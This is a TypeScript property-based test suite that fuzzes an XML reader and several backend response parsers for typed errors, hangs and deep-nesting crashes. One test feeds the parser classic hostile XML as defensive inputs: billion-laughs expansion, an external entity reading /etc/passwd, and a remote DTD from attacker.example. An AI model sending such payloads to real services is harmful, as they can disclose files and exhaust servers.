/**
 * Property-based tests (fast-check) over every parser taskgraph runs on backend bytes: the XML
 * reader, and the read path (narrowing and mapping) of every backend type of the registry, XML
 * or JSON, as its module's testing support runs it (src/adapters/testing.ts). For any input, including mutated real fixtures and random documents built from
 * the vendors' own vocabulary: only typed errors, no hang, every mapped task well-formed.
 * Hostile inputs (entity expansion, external entities, deep nesting, 20 MB bodies) are
 * checked for time and memory.
 */
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { parseXml, XmlError, escapeXml, type XmlElement } from '../../src/adapters/xml.js';
import type { ParseOutcome } from '../../src/adapters/testing.js';
import { checkModel } from './support/pipelines.js';
import { BACKEND_TYPES, testingOf, type BackendTypeName } from './support/backends.js';

const XML_TYPES = BACKEND_TYPES.filter((t) => testingOf(t).format === 'xml');
const JSON_TYPES = BACKEND_TYPES.filter((t) => testingOf(t).format === 'json');

const RUNS = { numRuns: 300 };
/** A parse of one generated input taking longer than this is a hang for our purposes. */
const SLOW_MS = 250;

function run(type: BackendTypeName, body: string): ParseOutcome {
  const started = performance.now();
  const out = testingOf(type).parse(body);
  const ms = performance.now() - started;
  if (ms > SLOW_MS) throw new Error(`${type}: ${Math.round(ms)} ms for a ${body.length}-character body`);
  if (out.kind === 'models') out.models.forEach(checkModel);
  return out;
}

type Damage =
  | { op: 'truncate'; at: number }
  | { op: 'insert'; at: number; text: string }
  | { op: 'delete'; at: number; length: number }
  | { op: 'duplicate'; at: number; length: number };

/** Text-level damage: what a broken proxy or a truncated read does to a real payload. */
const damage: fc.Arbitrary<Damage> = fc.oneof(
  fc.record({ op: fc.constant('truncate' as const), at: fc.nat() }),
  fc.record({ op: fc.constant('insert' as const), at: fc.nat(), text: fc.string({ maxLength: 12 }) }),
  fc.record({ op: fc.constant('delete' as const), at: fc.nat(), length: fc.integer({ min: 1, max: 40 }) }),
  fc.record({ op: fc.constant('duplicate' as const), at: fc.nat(), length: fc.integer({ min: 1, max: 200 }) }),
);

function applyDamage(text: string, d: Damage): string {
  const at = text.length ? d.at % text.length : 0;
  switch (d.op) {
    case 'truncate':
      return text.slice(0, at);
    case 'insert':
      return text.slice(0, at) + d.text + text.slice(at);
    case 'delete':
      return text.slice(0, at) + text.slice(at + d.length);
    default:
      return text.slice(0, at) + text.slice(at, at + d.length) + text.slice(at);
  }
}

// ---- XML: vocabulary from the fixtures, random documents built from it ----

function walk(el: XmlElement, into: { names: Set<string>; attrs: Set<string>; values: Set<string> }): void {
  into.names.add(el.name);
  for (const [k, v] of Object.entries(el.attrs)) {
    into.attrs.add(k.replace(/^xsi:/, ''));
    into.values.add(v);
  }
  if (el.text.trim()) into.values.add(el.text.trim());
  el.children.forEach((c) => walk(c, into));
}

const XML_FIXTURES = new Map(XML_TYPES.flatMap((t) => [...testingOf(t).fixtures()]));
const vocabulary = { names: new Set<string>(), attrs: new Set<string>(), values: new Set<string>() };
for (const text of XML_FIXTURES.values()) walk(parseXml(text), vocabulary);

const oddValues = ['', ' ', '-1', '101', '1e309', 'NaN', 'not a date', '9999-99-99T99:99:99Z', '0001-01-01T00:00:00Z', 'true', 'maybe', 'x'.repeat(2000), '\u0000\uFFFF', '日本語', 'urn:vcloud:task:', 'javascript:alert(1)'];
const xmlValue = fc.oneof(fc.constantFrom(...vocabulary.values), fc.constantFrom(...oddValues), fc.string({ maxLength: 20 }));
const NAMESPACES = ['http://www.vmware.com/vcloud/v1.5', 'urn:vim25', 'http://schemas.xmlsoap.org/soap/envelope/', 'http://www.vmware.com/vcloud/extension/v1.5'];

interface Node {
  name: string;
  attrs: Record<string, string>;
  typed: string | null;
  text: string;
  children: readonly Node[];
}

/** Names that make a document reach deep into the narrowing code, drawn half of the time. */
const STRUCTURE = ['Task', 'Tasks', 'QueryResultRecords', 'TaskRecord', 'AdminTaskRecord', 'Owner', 'User', 'Organization', 'Link', 'Error', 'Details', 'Params', 'VcTaskList', 'VcTask', 'Progress', 'objects', 'obj', 'propSet', 'name', 'val', 'missingSet', 'fault', 'key', 'task', 'state', 'progress', 'error', 'result', 'queueTime', 'startTime', 'completeTime', 'description', 'message', 'filterSet', 'objectSet', 'changeSet', 'entity', 'reason', 'userName', 'parentTaskKey', 'rootTaskKey', 'token'];
const elementName = fc.oneof(fc.constantFrom(...STRUCTURE), fc.constantFrom(...vocabulary.names));

const xmlTree = fc.letrec<{ node: Node }>((tie) => ({
  node: fc.record({
    name: elementName,
    attrs: fc.dictionary(fc.constantFrom(...vocabulary.attrs), xmlValue, { maxKeys: 5 }),
    typed: fc.option(fc.constantFrom(...vocabulary.values), { freq: 4 }),
    text: fc.oneof(fc.constant(''), xmlValue),
    children: fc.oneof({ depthSize: 'small' }, fc.constant<Node[]>([]), fc.array(tie('node'), { maxLength: 5 })),
  }),
})).node;

function serialize(node: Node, root = true): string {
  const ns = root ? ` xmlns="${NAMESPACES[0]}" xmlns:vim="${NAMESPACES[1]}" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"` : '';
  const attrs = Object.entries(node.attrs).map(([k, v]) => ` ${k}="${escapeXml(v)}"`).join('');
  const typed = node.typed ? ` xsi:type="vim:${escapeXml(node.typed.replace(/[^\w]/g, '') || 'Any')}"` : '';
  return `<${node.name}${ns}${attrs}${typed}>${escapeXml(node.text)}${node.children.map((c) => serialize(c, false)).join('')}</${node.name}>`;
}

/** A random vim response: a SOAP envelope around a random returnval (else every input is refused at the envelope). */
function envelope(node: Node): string {
  return `<?xml version="1.0" encoding="UTF-8"?><soapenv:Envelope xmlns:soapenv="${NAMESPACES[2]}" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"><soapenv:Body><RetrievePropertiesExResponse xmlns="urn:vim25"><returnval>${serialize(node, false)}</returnval></RetrievePropertiesExResponse></soapenv:Body></soapenv:Envelope>`;
}

describe('parseXml', () => {
  it('only ever returns an element or throws XmlError, for any text', () => {
    const xmlish = fc.string({ unit: fc.constantFrom('<', '>', '/', '?', '!', '[', ']', '-', '=', '"', "'", '&', '#', ';', ':', 'a', 'b', 'x', ' ', '\n', 'CDATA', 'DOCTYPE', 'ENTITY', '&amp;', '&#x10FFFF;', '&#99999999;') });
    fc.assert(
      fc.property(fc.oneof(xmlish, fc.string(), fc.string({ unit: 'binary' })), (text) => {
        try {
          parseXml(text);
        } catch (err) {
          expect(err).toBeInstanceOf(XmlError);
        }
      }),
      { numRuns: 2000 },
    );
  });

  it('refuses hostile documents quickly: entity expansion, external entities, deep nesting, other encodings', () => {
    const hostile = {
      'billion laughs': `<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]><lolz>&lol3;</lolz>`,
      'external entity': `<?xml version="1.0"?><!DOCTYPE Task [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><Task status="running">&xxe;</Task>`,
      'parameter entity': `<!DOCTYPE x [<!ENTITY % p SYSTEM "http://attacker.example/evil.dtd"> %p;]><x/>`,
      'undeclared entity': `<Task name="&xxe;"/>`,
      'deep nesting': '<a>'.repeat(200_000) + '</a>'.repeat(200_000),
      'utf-16 as utf-8': Buffer.from('\ufeff<Task status="running"/>', 'utf16le').toString('utf8'),
      'truncated': '<QueryResultRecords><TaskRecord status="running" name="x"',
      'two roots': '<a/><b/>',
    };
    for (const [what, text] of Object.entries(hostile)) {
      const started = performance.now();
      expect(() => parseXml(text), what).toThrow(XmlError);
      expect(performance.now() - started, what).toBeLessThan(200);
    }
  });
});

describe.each(XML_TYPES)('%s narrowing and mapping', (type) => {
  const testing = testingOf(type);
  const own = testing.fixtures();

  it('maps every undamaged fixture without a typed error where it is a task payload', () => {
    for (const text of own.values()) run(type, text);
  });

  it('gives models or typed errors for damaged fixtures', () => {
    fc.assert(fc.property(fc.constantFrom(...own.values()), damage, (text, d) => void run(type, applyDamage(text, d))), RUNS);
  });

  it('gives models or typed errors for random documents in the vendors\' vocabulary', () => {
    let mapped = 0;
    const { roots, soapEnvelope } = testing.xml!;
    fc.assert(
      fc.property(xmlTree, fc.constantFrom(...roots), (tree, root) => {
        // A plain document has the root as its element; a SOAP answer has it (and a random
        // sibling) inside the returnval.
        const shaped = soapEnvelope ? { name: 'wrapper', attrs: {}, typed: null, text: '', children: [{ ...tree, name: root }, tree] } : { ...tree, name: root };
        const out = run(type, soapEnvelope ? envelope(shaped).replace(/<\/?wrapper>/g, '') : serialize(shaped));
        if (out.kind === 'models') mapped += out.models.length;
      }),
      { numRuns: 1000 },
    );
    expect(mapped).toBeGreaterThan(0); // the generator reaches the mapping, not only the refusals
  });
});

// ---- JSON backends ----

/** Replaces one value somewhere in a JSON tree (path chosen by `pick`). */
function replaceSomewhere(value: unknown, pick: number, replacement: unknown): unknown {
  const slots: Array<{ parent: Record<string, unknown> | unknown[]; key: string | number }> = [];
  const visit = (v: unknown) => {
    if (Array.isArray(v)) v.forEach((c, i) => (slots.push({ parent: v, key: i }), visit(c)));
    else if (v && typeof v === 'object') for (const [k, c] of Object.entries(v)) (slots.push({ parent: v as Record<string, unknown>, key: k }), visit(c));
  };
  const copy = structuredClone(value);
  visit(copy);
  if (!slots.length) return replacement;
  const slot = slots[pick % slots.length]!;
  (slot.parent as Record<string | number, unknown>)[slot.key] = replacement;
  return copy;
}

describe.each(JSON_TYPES)('%s JSON narrowing and mapping', (type) => {
  const own = [...testingOf(type).fixtures().values()];
  const documents = own.map((text) => JSON.parse(text) as unknown);

  it('maps every fixture', () => {
    for (const text of own) run(type, text);
  });

  it('gives models or typed errors for damaged fixtures', () => {
    fc.assert(fc.property(fc.constantFrom(...own), damage, (text, d) => void run(type, applyDamage(text, d))), RUNS);
  });

  it('gives models or typed errors when any field holds any JSON value', () => {
    fc.assert(
      fc.property(fc.constantFrom(...documents), fc.nat(), fc.jsonValue({ maxDepth: 4 }), (doc, pick, value) => void run(type, JSON.stringify(replaceSomewhere(doc, pick, value)))),
      { numRuns: 1000 },
    );
  });

  it('gives models or typed errors for arbitrary JSON', () => {
    fc.assert(fc.property(fc.jsonValue(), (value) => void run(type, JSON.stringify(value))), RUNS);
  });
});

/** Every path of a JSON document, as a list of keys. */
function paths(value: unknown, at: Array<string | number> = [], out: Array<Array<string | number>> = []): Array<Array<string | number>> {
  if (at.length) out.push(at);
  if (Array.isArray(value)) value.forEach((c, i) => paths(c, [...at, i], out));
  else if (value && typeof value === 'object') for (const [k, c] of Object.entries(value)) paths(c, [...at, k], out);
  return out;
}

/** The fixture with the value at `path` replaced by an array nested `depth` deep (built as text: stringify would overflow). */
function withDeepValue(doc: unknown, path: Array<string | number>, depth: number): string {
  const copy = structuredClone(doc) as Record<string | number, unknown>;
  let parent: Record<string | number, unknown> = copy;
  for (const key of path.slice(0, -1)) parent = parent[key] as Record<string | number, unknown>;
  parent[path[path.length - 1]!] = '__DEEP__';
  return JSON.stringify(copy).replace('"__DEEP__"', '['.repeat(depth) + ']'.repeat(depth));
}

describe('a value nested 20 000 deep, at every position of every JSON fixture', () => {
  function crashes(type: BackendTypeName): string[] {
    const found: string[] = [];
    for (const [file, text] of testingOf(type).fixtures()) {
      const doc = JSON.parse(text) as unknown;
      for (const path of paths(doc)) {
        try {
          run(type, withDeepValue(doc, path, 20_000));
        } catch (err) {
          found.push(`${file}: ${path.join('.')}: ${(err as Error).message}`);
        }
      }
    }
    return found;
  }

  // Found here: JSON.stringify of such a value overflowed the stack in Prism completionDetails
  // values and vAPI results and message args; they now go through adapters/json-text.ts.
  it.each(JSON_TYPES)('%s reads it without an untyped error', (type) => {
    expect(crashes(type)).toEqual([]);
  });
});
